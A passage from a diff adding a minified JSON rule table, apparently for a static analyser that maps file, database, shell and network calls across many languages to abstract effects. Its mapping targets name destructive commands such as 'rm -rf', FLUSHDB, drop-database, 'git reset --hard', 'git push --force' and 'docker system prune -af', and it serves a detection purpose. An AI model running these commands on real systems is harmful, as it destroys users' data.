+-rows if-none run sql delete-some rows | if-sign:unconditional if-made:rows if-none run sql delete-all rows","purge":"if-made:some-rows if-none run sql delete-s\
+ome rows | if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run docker volume rm $self","open":"if-text calls\
+-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql delete-all rows | if-name if-kept run sql de\
+lete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run sql delete-so\
+me rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run sql flush FLUSHDB | if-database if-none run \
+sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","truncate":"if-ma\
+de:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"value $self","compact":"value $self","uniq":\
+"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-made:sidekiq run celery purge","database":"if\
+-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"if-made:ssh shell $0","eval":"if-content eva\
+l $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:content eval $0 | if-arg:text eval $0","instance\
+_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-says:^hard$ if-args:2 run git reset --hard",\
+"from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entries keys","rmtree":"if-text run rm -rf $sel\
+f","children":"folder $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received | if-list any-of $self","readline":"if-made\
+:peer received | if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","recv":"if-made:peer received | if-made:connec\
+tion received","recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer received | if-made:connection received","read\
+":"if-made:peer received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made peer","shift":"if-list any-of $self","first":\
+"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self","values":"if-map values $self","each_valu\
+e":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns\
+":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keyword\
+s":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"texts":{"os.pwd":".","os.home":"~","FileManage\
+r.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.temporaryDirectory":"/tmp/temp\
+orary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"aliases":{},"rewrites":[["^(?:(?:System\\\
+\\.IO|std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println":"print","cons\
+ole.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"characters $all",\
+"table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all","list":"value\
+ $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all","Arrays.asLis\
+t":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","List.toList":"val\
+ue $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_existing_atom":"\
+value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $0","File.toPat\
+h":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","DirectoryInfo":"value $0","FileInfo":"value $0\
+","URL":"value $0","URI":"value $0","URI.create":"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.expand":"value $0\
+","abspath":"value $0","normpath":"value $0","opendir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0","std.string":"\
+value $0","string":"value $0","String.valueOf":"value $0","Process":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","path.Join":"join \
+$all","path.join":"join $all","Paths.get":"join $all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all","joinpath":"jo\
+in $all","filename.join":"join $all","file.path":"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join $all","Path":"\
+join $all","os.Path":"join $all","join_path":"join $all","path_join":"join $all","Path.Join":"join $all","home_dir":"value ~","dirs.home_dir":"value ~","home.ho\
+me_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","homedir":"value ~","path_home":"value ~","System.user_home":"value ~","user_home":"value ~\
+","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurrentUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value .","getwd":"v\
+alue .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value .","env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value .","os.Getenv"\
+:"environment $0","System.getenv":"environment $0","System.getProperty":"environment $0","os.getenv":"environment $0","getenv":"environment $0","Sys.getenv":"en\
+vironment $0","env.var":"environment $0","System.get_env":"environment $0","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc","ioutil.TempD\
+ir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tempdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value /tmp/\\ufffc",\
+"mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /tmp/\\ufffc","e\
+nv.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempfile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /tmp/\\ufffc","F\
+iles.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tmp/\\ufffc","Fil\
+e.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Directory.system\
+Temp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tmp/\\ufffc","NST\
+emporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /tmp/\\ufffc","m\
+kdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create":"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:recursive=true ru\
+n rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIfExists":"run r\
+m $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $0","file.delet\
+e":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"run rm $0","rem\
+ove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0","delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"run rm -rf $0","\
+os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.deleteDirectory":"r\
+un rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceDelete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.rm_rf":"run rm \
+-rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDir":"run rm -rf\
+ $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","delete_director\
+y":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tree":"run rm -rf $0","delete_tree":"run rm -rf $0","delete_directory_files":"run rm -rf $\
+0","fs.rm_rf":"run rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","gen_tcp.recv":"received","require":"module $0","SqlCommand":"sql\
+ $0","NpgsqlCommand":"sql $0","MySqlCommand":"sql $0","SqliteCommand":"sql $0","OracleCommand":"sql $0","OleDbCommand":"sql $0","OdbcCommand":"sql $0","setuid":\
+"run setuid $0","seteuid":"run setuid $0","syscall.Setuid":"run setuid $0","unix.Setuid":"run setuid $0","setreuid":"run setuid $last","setresuid":"run setuid $\
+last","lfs.rmdir":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir"\
+:"run rmdir $0","system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shel\
+l $0","Runtime.exec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_c\
+ommand":"shell $0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_shell_comma\
+nd":"shell $0","run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","sh":"program $all","call_process":"program $all","start_pr\
+ocess":"program $all","exec.Command":"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn\
+ $0 $1","system2":"spawn $0 $1","System.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.St\
+art":"spawn $0 $1","execl":"execute $0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"\
+kill $0 $1","syscall.Kill":"kill $0 $1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.\
+writeString":"write $0 $1","Files.write":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAllText":"write $0 $1","File.WriteAllLines":"w\
+rite $0 $1","File.WriteAllBytes":"write $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","File.AppendAllText":"write $0 $1 append","File.AppendAl\
+lLines":"write $0 $1 append","writeLines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenF\
+ile":"open $0 $1 flags","cat":"if-option:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0\
+ w","FileOutputStream":"open $0 w","os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","o\
+s.Open":"read $0","fs.read":"read $0","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","\
+File.read":"read $0","File.ReadAllText":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"\
+read $0","File.ReadAllLines":"read $0","File.ReadAllBytes":"read $0","File.ReadLines":"read $0","File.OpenText":"read $0","File.OpenRead":"read $0","StreamReade\
+r":"read $0","godotenv.Read":"read $0","toml.DecodeFile":"read $0","ini.Load":"read $0","readRDS":"read $0","read_yaml":"read $0","read_json":"read $0","fromJSO\
+N":"read $0","read.csv":"read $0","read.table":"read $0","readr::read_file":"read $0","TOML.parsefile":"read $0","YAML.load_file":"read $0","JSON.parsefile":"re\
+ad $0","readdlm":"read $0","String.contentsOfFile":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPu\
+blishers.ofFile":"read $0","File.read_to_string":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdi\
+r":"names $0","listdir":"names $0","Directory.GetFiles":"folder $0","Directory.GetDirectories":"folder $0","Directory.EnumerateFiles":"folder $0","Directory.Enu\
+merateDirectories":"folder $0","directory_files":"folder $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os\
+.list":"folder $0","Files.list":"folder $0","directory_iterator":"folder $0","directory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os\
+.walk":"folder $0 below","Files.walk":"folder $0 below","recursive_directory_iterator":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk"\
+:"calls-back folder $0 below","filepath.WalkDir":"calls-back folder $0 below","nftw":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"\
+walk $0","filelib.wildcard":"glob $0","filepath.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"\
+any-of $0","filepath.Dir":"dirname $0","dirname":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.forma\
+t":"format $0 $1..","string.format":"format $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"split $0","String.split":"split $0","Option\
+Parser.split":"split $0","shellwords.split":"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0\
+","Enum.each":"map $1 $0","Enum.map":"map $1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar"\
+:"map $0 $1","foreach":"map $0 $1","map":"map $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSe\
+ndQuery":"sql $0 | sql $1","dbGetQuery":"sql $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1\
+","SQLite.execute":"sql $0 | sql $1","SQL.query":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 | sql $1","spark.sql":"sql $0 | sql $1","sq\
+lContext.sql":"sql $0 | sql $1","sqlx.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","\
+sqlite3_exec":"sql $0 | sql $1","sql_query":"sql $0 | sql $1","drive_rm":"run cloud-sdk delete","googledrive.drive_rm":"run cloud-sdk delete","bq_table_delete":\
+"run cloud-sdk delete","bq_dataset_delete":"run cloud-sdk delete","delete_bucket":"run cloud-sdk delete","aws.s3.delete_bucket":"run cloud-sdk delete","dbRemove\
+Table":"run sql drop-table rows","mnesia.delete_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql \
+drop-schema db","code.load_binary":"eval $2","socket.http.request":"request GET $0","ssl.https.request":"request GET $0","http.Get":"request GET $0","reqwest.ge\
+t":"request GET $0","GET":"request GET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.get":"request GET $0","POST":"request POST $0 $1 \
+$:body","PUT":"request POST $0 $1 $:body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0 $1 $:body","HTTP.post":"request POST $0 $1 $:b\
+ody","HTTPoison.post":"request POST $0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request POST $0 $1 $:body","http.Post":"request POST $0 $\
+2","http.PostForm":"request POST $0 $2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $0","jenkinsItems":"made jenkins","ArmClient":"m\
+ade service","CosmosClient":"made service","BlobServiceClient":"made service","TableServiceClient":"made service","QueueServiceClient":"made service","ShareServ\
+iceClient":"made service","SecretClient":"made service","KeyClient":"made service","AmazonS3Client":"made service","AmazonDynamoDBClient":"made service","Amazon\
+EC2Client":"made service","FileSystem.get":"made service","FileSystem.newInstance":"made service","clientv3.New":"made service","storage.NewClient":"made servic\
+e","ldap.DialURL":"made service"},"methods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onEnter":"v\
+alue $self","sorted":"value $self","sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self","into_i\
+ter":"value $self","iter_mut":"value $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok":"value \
+$self","clone":"value $self","cloned":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self","toStri\
+ng":"value $self","path":"value $self","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value $self",\
+"filter_entry":"value $self","take":"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":"value $\
+self","normalize":"value $self","iterator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"value $s\
+elf","min_depth":"value $self","standardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value $self",\
+"into":"value $self","del":"if-gets:keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if-made:re\
+quest request DELETE $origin | if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-te\
+xt run rm -r $self","scan_iter":"if-stored entries keys","keys":"if-stored entries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database d\
+b","drop_database":"run sql drop-database db","dropDatabase":"run sql drop-database db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1",\
+"status":"if-list shell $self","output":"if-list shell $self","spawn":"if-list shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"\
+if-list shell $self","CombinedOutput":"if-list shell $self","Start":"if-list shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $\
+self","arg":"concatenate $self $all","args":"concatenate $self $all","removeItem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run r\
+m -rf $self","deleteRecursively":"run rm -rf $self","deleteDir":"run rm -rf $self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf\
+ $self","doDelete":"if-made:jenkins run cloud-sdk delete","wildcard":"glob $self","DELETE":"if-made:request request DELETE $origin","getPlainText":"run Get-Secr\
+et","receive":"if-sign:network received","recv":"if-sign:network received","ReadString":"if-sign:network received","ReadBytes":"if-sign:network received","ReadL\
+ine":"if-sign:network received","readLine":"if-sign:network received","ReadLineAsync":"if-sign:network received","FormValue":"if-sign:network received","PostFor\
+mValue":"if-sign:network received","read_line":"if-sign:network received","Push":"if-option:Force=true run git push --force","PushContext":"if-option:Force=true\
+ run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":"run docker volume rm $1","VolumesPrune":"run docker volume prune -af","SystemPrun\
+e":"run docker system prune -af","deleteSync":"if-made:request request DELETE $origin | if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $s\
+elf","rm":"if-text run rm -r $self","Delete":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathCompon\
+ent":"join $self $0","appending":"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder \
+$self","listSync":"folder $self","children":"folder $self","read_dir":"folder $self","GetFiles":"folder $self","GetDirectories":"folder $self","EnumerateFiles":\
+"folder $self","EnumerateDirectories":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below","content\
+sOfDirectory":"folder $0:at:atPath","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"write $self \
+$0","writeAsStringSync":"write $self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"open $self\
+ w","bufferedWriter":"open $self w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsStringSync"\
+:"read $self","readBytes":"read $self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send $self $0"\
+,"puts":"send $self $0","POST":"send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"made requ\
+est $0","Exec":"sql $0 | sql $1","ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1","MustEx\
+ec":"sql $0 | sql $1","executeUpdate":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sql $1","pr\
+epareStatement":"sql $0 | sql $1","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1","execute\
+Sql":"sql $0 | sql $1","rawQuery":"sql $0 | sql $1","update":"sql $0 | sql $1","batch_execute":"sql $0 | sql $1","simple_query":"sql $0 | sql $1"}}},"dialects":\
+{"lua":{"comment":"--\\\\[\\\\[[\\\\s\\\\S]*?\\\\]\\\\]|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)'|\\\\[\\\\[([\\\\s\\\\S]*?)\\\\]\\\\]"\
+,"rewrites":[["lfs\\\\.(?:symlink)?attributes\\\\s*\\\\(([^()]*)\\\\)(?:\\\\.mode)?\\\\s*[=~]=\\\\s*\\"\\\\d+\\"","isDirectory($1)"],["\\\\.\\\\.(?!\\\\.)","+"],["\\\\blocal\\\\s+(?=functi\
+on\\\\b)",""],["\\\\blocal\\\\s+(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)+)\\\\s*=\\\\s*(\\"\\\\d+\\"(?:\\\\s*,\\\\s*\\"\\\\d+\\")+)","[$1] = [$2];"],["~=","!="],["\\\\b(os\\\\.(?:execute|remove|getenv)|io\
+\\\\.(?:popen|open)|require)\\\\s*(\\"\\\\d+\\")","$1($2)"],["([\\\\w)]):(\\\\w+)\\\\s*(?=\\\\()","$1.$2"],["(=\\\\s*|\\\\(\\\\s*|,\\\\s*|\\\\bin\\\\s+|\\\\breturn\\\\s+|\\\\{\\\\s*)\\\\{([^{};=]*)\\\
+\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "],["\\\\bfu\
+nction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belseif\\\\b","}\
+ else if"],["\\\\belse\\\\b","} else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\[\\\\s\\\\\
+S])*)'","rewrites":[["\\\\b(?:library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|utils|tools\
+|purrr|paws|yaml|jsonlite|readr)::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isDirectory"\
+],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\w.])([\\\\w\
+.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\s","for (\
+$1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\\bpaste0\\\
+\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","(\
+$1 + \\" \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*\
+)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\\
+()","$1"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Ba\
+se\\\\.Filesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=\
+)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bst\
+ring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*\
+)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?\
+[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2) $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\\
+n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 \
+{ $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\
+\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\\
